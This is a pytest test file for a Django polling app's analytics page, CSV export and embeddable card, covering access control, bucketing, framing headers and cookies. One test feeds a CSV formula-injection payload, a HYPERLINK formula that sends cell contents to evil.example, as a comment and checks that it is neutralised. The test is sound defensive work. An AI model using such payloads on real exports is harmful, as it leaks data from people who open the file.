"""The owner's analytics page and CSV export, and the embeddable card: who may open them,
what they answer, and which pages may be framed."""

import csv
import io
from datetime import timedelta

import pytest
from asgiref.sync import async_to_sync
from django.conf import settings
from django.utils import timezone

from analytics.models import Open
from analytics.selectors import bucket_size
from polls import services
from polls.models import Ballot, Poll
from tests.helpers import open_browser, post_htmx, post_json, text
from tests.polls.factories import PollFactory

pytestmark = pytest.mark.django_db

OWNER_ROUTES = ["analytics", "results.csv"]


@pytest.fixture
def owned(user):
    return PollFactory(owner=user, question="Tabs or spaces?", options=["Tabs", "Spaces"])


def vote(poll, option_index=0, comment=""):
    option = list(poll.options.all())[option_index]
    response = post_json(
        open_browser(), f"/poll/{poll.code}/vote", {"option": option.id, "comment": comment}
    )
    assert response.status_code == 201, response.content


def csv_text(response) -> str:
    """Read a streamed CSV as a server would: its content is an async iterator."""

    async def collect() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)().decode()


# Owner-only routes


@pytest.mark.parametrize("route", OWNER_ROUTES)
def test_owner_routes_refuse_other_accounts_and_anonymous_browsers(owned, route):
    """Another account and a signed-out browser get 403 (JSON clients too)."""
    from tests.accounts.factories import UserFactory

    for client in (open_browser(UserFactory()), open_browser()):
        page = client.get(f"/poll/{owned.code}/{route}")
        assert page.status_code == 403
        assert "owner can do that." in text(page)
        as_json = client.get(f"/poll/{owned.code}/{route}", headers={"Accept": "application/json"})
        assert as_json.status_code == 403
        assert as_json.json()["error"]["code"] == "forbidden"


@pytest.mark.parametrize("route", OWNER_ROUTES)
def test_owner_routes_answer_404_for_an_unknown_poll(signed_in, route):
    assert signed_in.get(f"/poll/nosuchpoll/{route}").status_code == 404


def test_anonymous_creator_may_open_its_analytics(client):
    """A poll made signed out is managed by the browser that made it."""
    client.get("/")
    poll = services.poll_create(
        question="Lunch?",
        options=["Soup", "Salad"],
        owner=None,
        creator_token=client.cookies[settings.VOTER_COOKIE_NAME].value.split(":")[0],
    )
    assert client.get(f"/poll/{poll.code}/analytics").status_code == 200
    assert open_browser().get(f"/poll/{poll.code}/analytics").status_code == 403


# Analytics


def test_analytics_page_explains_its_empty_states(signed_in, owned):
    page = signed_in.get(f"/poll/{owned.code}/analytics")
    assert page.status_code == 200
    assert page["Content-Type"].startswith("text/html")
    body = text(page)
    assert "No opens yet" in body
    assert "it shows once the poll has been opened" in body
    assert "No votes yet: the chart fills in, live, as votes arrive." in body
    assert f'ws-connect="/ws/poll/{owned.code}/"' in body
    assert f'href="/poll/{owned.code}/results.csv"' in body


def test_analytics_json_follows_the_spec(signed_in, owned):
    """Opens by source, votes, conversion, per-bucket counts of a fresh poll by minute."""
    now = timezone.now()
    Open.objects.bulk_create(
        [Open(poll=owned, source=source, opened_at=now) for source in ["link"] * 4 + ["qr"]]
    )
    vote(owned, 0, comment="Tabs are one keystroke")
    vote(owned, 1)
    response = signed_in.get(
        f"/poll/{owned.code}/analytics", headers={"Accept": "application/json"}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["code"] == owned.code
    assert body["opens"] == {"link": 4, "qr": 1, "embed": 0}
    assert body["votes"] == 2
    assert body["conversion"] == 0.4
    assert body["comments"] == 1
    assert body["cumulative"] is False
    assert body["bucket_seconds"] == 60
    assert sum(bucket["votes"] for bucket in body["votes_over_time"]) == 2
    assert body["votes_over_time"][-1]["t"].endswith("Z")


def test_conversion_is_null_without_opens(signed_in, owned):
    vote(owned)
    body = signed_in.get(
        f"/poll/{owned.code}/analytics", headers={"Accept": "application/json"}
    ).json()
    assert body["conversion"] is None
    assert body["votes"] == 1


def test_votes_over_time_of_an_old_poll_count_per_day(signed_in, owned):
    """A poll a month old is charted by day, every day present, votes in their own day."""
    Poll.objects.filter(pk=owned.pk).update(created_at=timezone.now() - timedelta(days=30))
    vote(owned)
    vote(owned)
    Ballot.objects.filter(pk=Ballot.objects.filter(poll=owned).first().pk).update(
        created_at=timezone.now() - timedelta(days=10)
    )
    body = signed_in.get(
        f"/poll/{owned.code}/analytics", headers={"Accept": "application/json"}
    ).json()
    assert body["bucket_seconds"] == 86400
    counts = [bucket["votes"] for bucket in body["votes_over_time"]]
    assert len(counts) in (31, 32)
    assert counts[-1] == 1
    assert counts[-11] == 1
    assert sum(counts) == 2


@pytest.mark.parametrize(
    ("age", "seconds"),
    [
        (timedelta(minutes=5), 60),
        (timedelta(hours=3), 300),
        (timedelta(hours=12), 900),
        (timedelta(days=2), 3600),
        (timedelta(days=10), 6 * 3600),
        (timedelta(days=40), 86400),
        (timedelta(days=400), 7 * 86400),
    ],
)
def test_bucket_size_fits_the_poll_age(age, seconds):
    """Minutes for a fresh poll, hours for a few days, days and weeks for old ones."""
    size, _unit = bucket_size(age)
    assert size == seconds
    assert age.total_seconds() / size < 60


def test_analytics_chart_has_a_bar_per_bucket_and_the_fragment_refreshes(signed_in, owned):
    vote(owned)
    page = text(signed_in.get(f"/poll/{owned.code}/analytics"))
    assert "<svg" in page
    assert 'data-votes="1"' in page
    fragment = signed_in.get(f"/poll/{owned.code}/analytics", headers={"HX-Request": "true"})
    assert fragment.status_code == 200
    body = text(fragment)
    assert body.lstrip().startswith('<div id="analytics-stats"')
    assert 'hx-trigger="tally-pushed from:body throttle:1s"' in body
    assert "<html" not in body


# CSV


def test_csv_has_options_then_ballots_without_voter_identity(signed_in, owned):
    vote(owned, 0, comment="Fewer bytes")
    vote(owned, 1)
    response = signed_in.get(f"/poll/{owned.code}/results.csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    body = csv_text(response)
    summary, ballots = body.split("\r\n\r\n")
    assert list(csv.reader(io.StringIO(summary))) == [
        ["option", "votes", "percentage"],
        ["Tabs", "1", "50.0"],
        ["Spaces", "1", "50.0"],
    ]
    rows = list(csv.reader(io.StringIO(ballots)))
    assert rows[0] == ["cast_at", "options", "comment"]
    assert [row[1:] for row in rows[1:]] == [["Tabs", "Fewer bytes"], ["Spaces", ""]]
    for ballot in Ballot.objects.filter(poll=owned):
        assert ballot.voter_key not in body
        assert ballot.ip_key == "" or ballot.ip_key not in body


def test_csv_neutralises_formulas_and_leaves_out_removed_comments(signed_in, user):
    poll = PollFactory(owner=user, options=["=1+1", "@SUM(A1)", "Plain"])
    vote(poll, 0, comment='=HYPERLINK("http://evil.example/?leak="&A1,"click")')
    vote(poll, 1, comment="+ratio")
    vote(poll, 2, comment="-dash and a secret")
    Ballot.objects.filter(poll=poll, comment__startswith="-").update(comment_removed=True)
    rows = list(csv.reader(io.StringIO(csv_text(signed_in.get(f"/poll/{poll.code}/results.csv")))))
    cells = [cell for row in rows for cell in row]
    assert """'=HYPERLINK("http://evil.example/?leak="&A1,"click")""" in cells
    assert "'=1+1" in cells
    assert "'@SUM(A1)" in cells
    assert "'+ratio" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "dash and a secret" not in " ".join(cells)


# The embed and framing


def test_embed_is_a_framable_card_with_the_form_and_live_results(poll):
    response = open_browser().get(f"/poll/{poll.code}/embed")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "X-Frame-Options" not in response
    assert "frame-ancestors *" in response["Content-Security-Policy"]
    body = text(response)
    assert f'ws-connect="/ws/poll/{poll.code}/"' in body
    assert 'id="tally"' in body
    assert f'hx-post="/poll/{poll.code}/vote"' in body
    assert "Powered by Tally" in body
    assert "<header" not in body  # none of the site's navigation


@pytest.mark.parametrize("route", ["", "/share", "/present", "/results"])
def test_every_other_poll_route_denies_framing(poll, route):
    response = open_browser().get(f"/poll/{poll.code}{route}")
    assert response.status_code == 200
    assert response["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]


def test_embed_framing_follows_embed_allowed_origins(settings, poll):
    settings.EMBED_ALLOWED_ORIGINS = ["https://blog.example", "https://news.example"]
    policy = open_browser().get(f"/poll/{poll.code}/embed")["Content-Security-Policy"]
    assert "frame-ancestors https://blog.example https://news.example" in policy
    assert "frame-ancestors *" not in policy


def test_cross_site_frame_over_http_offers_a_link_instead_of_a_form(poll):
    """No cookie can reach a cross-site frame over plain HTTP: no form that would count
    every visit as a new voter, but the results and a top-level link."""
    response = open_browser().get(
        f"/poll/{poll.code}/embed", headers={"Sec-Fetch-Site": "cross-site"}
    )
    body = text(response)
    assert "Your browser keeps no cookies for this embedded poll" in body
    assert "Vote on Tally" in body
    assert f'href="http://testserver/poll/{poll.code}"' in body
    assert "/vote" not in body
    assert 'id="tally"' in body


def test_cross_site_frame_over_tls_gets_partitioned_cookies_and_votes_once(poll):
    """Over TLS the voter and CSRF cookies are SameSite=None; Secure; Partitioned, and a
    vote from the frame counts once."""
    frame = open_browser()
    frame.cookies.clear()
    response = frame.get(
        f"/poll/{poll.code}/embed", secure=True, headers={"Sec-Fetch-Site": "cross-site"}
    )
    assert response.status_code == 200
    for name in (settings.VOTER_COOKIE_NAME, "csrftoken"):
        cookie = response.cookies[name].OutputString()
        assert "SameSite=None" in cookie
        assert "Secure" in cookie
        assert cookie.endswith("; Partitioned")
    assert "HttpOnly" in response.cookies[settings.VOTER_COOKIE_NAME].OutputString()
    assert (
        "Vote on Tally" not in text(response).split('id="embed-no-cookies"')[1].split("hidden")[0]
    )
    frame.csrf_token = frame.cookies["csrftoken"].value
    option = poll.options.first()
    first = post_htmx(frame, f"/poll/{poll.code}/vote", {"option": option.id}, secure=True)
    assert first.status_code == 200
    assert "Your vote is in." in text(first)
    again = post_htmx(frame, f"/poll/{poll.code}/vote", {"option": option.id}, secure=True)
    assert again.status_code == 409
    assert Ballot.objects.filter(poll=poll).count() == 1


def test_same_site_embed_keeps_the_usual_cookies(poll):
    """Framed by a page of Tally's own site (or opened directly), the cookies stay Lax."""
    frame = open_browser()
    frame.cookies.clear()
    response = frame.get(
        f"/poll/{poll.code}/embed", secure=True, headers={"Sec-Fetch-Site": "same-site"}
    )
    cookie = response.cookies[settings.VOTER_COOKIE_NAME].OutputString()
    assert "SameSite=Lax" in cookie
    assert "Partitioned" not in cookie


def test_the_owner_panel_links_to_analytics(signed_in, owned):
    link = f'href="/poll/{owned.code}/analytics"'
    assert link in text(signed_in.get(f"/poll/{owned.code}"))
    assert link not in text(open_browser().get(f"/poll/{owned.code}"))
